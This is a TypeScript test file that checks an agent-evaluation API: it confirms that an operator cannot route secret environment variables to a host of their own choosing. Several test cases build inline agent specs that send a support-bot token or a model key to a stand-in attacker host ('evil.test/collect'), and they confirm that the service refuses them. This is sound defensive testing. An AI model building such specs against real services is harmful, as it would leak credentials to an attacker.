/**
 * Hostile (issue 25 item 4): a variable of `AEH_AGENT_KEY_ENVS` that a registered agent uses could be named in
 * any inline agent spec with a URL of the caller's choosing, so any OPERATOR could send the secret anywhere.
 * A variable listed `NAME@host` goes only to that host, from any spec; a bare `NAME` only to the URL of an agent
 * registry record (written by `registry:admin`). The audit log and the task name the variables a run uses.
 */
import { describe, it, expect, beforeAll, afterAll, afterEach } from 'vitest';
import { setupServer } from 'msw/node';
import { http, HttpResponse } from 'msw';
import { testApp, type TestApp } from '../../test/helpers.ts';
import { scriptedScenario, testMetrics, waitForTask } from '../../test/evaluation-fixtures.ts';

const TOKEN = 'tok-support-5c1f9e';
const MODEL_KEY = 'sk-model-77aa';
const seen: Array<{ host: string; authorization: string | null }> = [];
const server = setupServer(
  http.post(/^http:\/\/(agent|evil)\.test\/.*/, ({ request }) => {
    seen.push({ host: new URL(request.url).hostname, authorization: request.headers.get('authorization') });
    return HttpResponse.json({ output: 'Your balance is 42 EUR.' });
  }),
  http.post(/^http:\/\/(llm|evil)\.test\/v1\/chat\/completions$/, ({ request }) => {
    seen.push({ host: new URL(request.url).hostname, authorization: request.headers.get('authorization') });
    return HttpResponse.json({ choices: [{ message: { role: 'assistant', content: 'Your balance is 42 EUR.' } }] });
  }),
);
beforeAll(() => server.listen({ onUnhandledRequest: 'bypass' }));
afterEach(() => {
  seen.length = 0;
});
afterAll(() => server.close());

const BALANCE = scriptedScenario('balance', { tasks: [{ id: 't1', input: 'What is my balance?', expected: { contains: '42 EUR' }, metrics: [{ id: 'probe_contains' }] }] });
const ENV = { AEH_ALLOW_HOSTS: 'agent.test,evil.test,llm.test', SUPPORT_BOT_TOKEN: TOKEN, MODEL_KEY };
const httpAgent = (url: string) => ({ adapter: 'http', url, header_envs: { authorization: 'SUPPORT_BOT_TOKEN' } });

async function operator(t: TestApp): Promise<string> {
  return (await t.json('POST', '/api/v1/keys', { body: { name: 'operator', roles: ['operator'] } })).body.secret;
}

describe('hostile: agent secrets go only where the operator bound them (issue 25 item 4)', () => {
  it('a bare NAME is refused in an inline spec (no request reaches the attacker) but works for the registered agent', async () => {
    const t = await testApp({ plugins: [testMetrics], env: { ...ENV, AEH_AGENT_KEY_ENVS: 'SUPPORT_BOT_TOKEN' } });
    const key = await operator(t);
    const stolen = await t.json('POST', '/api/evaluate', { key, body: { scenario: BALANCE, agent: httpAgent('http://evil.test/collect') } });
    expect(stolen.status).toBe(400);
    expect(stolen.body.errors[0]).toMatchObject({ path: '/agent/header_envs/authorization', message: expect.stringMatching(/only agents of the registry.*NAME@host/) });
    expect(seen).toEqual([]);
    expect((await t.json('POST', '/api/v1/agents', { body: { name: 'support-bot', adapter: 'http', options: { url: 'http://agent.test/run', header_envs: { authorization: 'SUPPORT_BOT_TOKEN' } } } })).status).toBe(201);
    const registered = await t.json('POST', '/api/evaluate', { key, body: { scenario: BALANCE, agent: 'support-bot' } });
    expect(registered.status).toBe(202);
    expect((await waitForTask(t, registered.body.task_id)).status).toBe('succeeded');
    expect(seen).toEqual([{ host: 'agent.test', authorization: TOKEN }]);
  });

  it('NAME@host sends the variable to that host only, from any spec', async () => {
    const t = await testApp({ plugins: [testMetrics], env: { ...ENV, AEH_AGENT_KEY_ENVS: 'SUPPORT_BOT_TOKEN@agent.test, MODEL_KEY@llm.test:80' } });
    const key = await operator(t);
    for (const agent of [httpAgent('http://evil.test/collect'), httpAgent('http://agent.test.evil.test/x'), { adapter: 'openai', base_url: 'http://evil.test/v1', model: 'm', api_key_env: 'MODEL_KEY' }]) {
      const refused = await t.json('POST', '/api/evaluate', { key, body: { scenario: BALANCE, agent } });
      expect(refused.status, JSON.stringify(agent)).toBe(400);
      expect(refused.body.errors[0].message).toMatch(/may be sent only to/);
    }
    expect(seen).toEqual([]);
    const bound = await t.json('POST', '/api/evaluate', { key, body: { scenario: BALANCE, agent: httpAgent('http://agent.test/run') } });
    expect(bound.status).toBe(202);
    expect((await waitForTask(t, bound.body.task_id)).status).toBe('succeeded');
    const model = await t.json('POST', '/api/evaluate', { key, body: { scenario: BALANCE, agent: { adapter: 'openai', base_url: 'http://llm.test/v1', model: 'm', api_key_env: 'MODEL_KEY' } } });
    expect((await waitForTask(t, model.body.task_id)).status).toBe('succeeded');
    expect(seen).toEqual([{ host: 'agent.test', authorization: TOKEN }, { host: 'llm.test', authorization: `Bearer ${MODEL_KEY}` }]);
  });

  it('a registry record cannot name a bound variable for another host either', async () => {
    const t = await testApp({ plugins: [testMetrics], env: { ...ENV, AEH_AGENT_KEY_ENVS: 'SUPPORT_BOT_TOKEN@agent.test' } });
    const { adapter, ...options } = httpAgent('http://evil.test/run');
    const saved = await t.json('POST', '/api/v1/agents', { body: { name: 'elsewhere', adapter, options } });
    expect(saved.status).toBe(400);
    expect(JSON.stringify(saved.body)).toMatch(/may be sent only to agent\.test/);
  });

  it('fails the start on an entry that is neither NAME nor NAME@host', async () => {
    for (const entry of ['KEY@', 'KEY@http://x/', 'bad-name']) {
      await expect(testApp({ env: { AEH_AGENT_KEY_ENVS: entry } }), entry).rejects.toThrow(/neither NAME nor NAME@host/);
    }
  });

  it('records the variables a run uses in the audit log and its task, never their values', async () => {
    const t = await testApp({ plugins: [testMetrics], env: { ...ENV, AEH_AGENT_KEY_ENVS: 'SUPPORT_BOT_TOKEN@agent.test' } });
    const key = await operator(t);
    const accepted = await t.json('POST', '/api/evaluate', { key, body: { scenario: BALANCE, agent: httpAgent('http://agent.test/run') } });
    const task = await waitForTask(t, accepted.body.task_id);
    expect(task.agent_envs).toEqual(['SUPPORT_BOT_TOKEN']);
    const audit = (await t.json('GET', '/api/v1/audit?limit=20')).body.items;
    expect(audit).toContainEqual(expect.objectContaining({ action: 'evaluate', run_id: accepted.body.run_id, agent_envs: ['SUPPORT_BOT_TOKEN'] }));
    expect(JSON.stringify(audit)).not.toContain(TOKEN);
    const plain = await t.json('POST', '/api/evaluate', { key, body: { scenario: BALANCE } });
    expect((await waitForTask(t, plain.body.task_id)).agent_envs).toBeUndefined();
  });
});
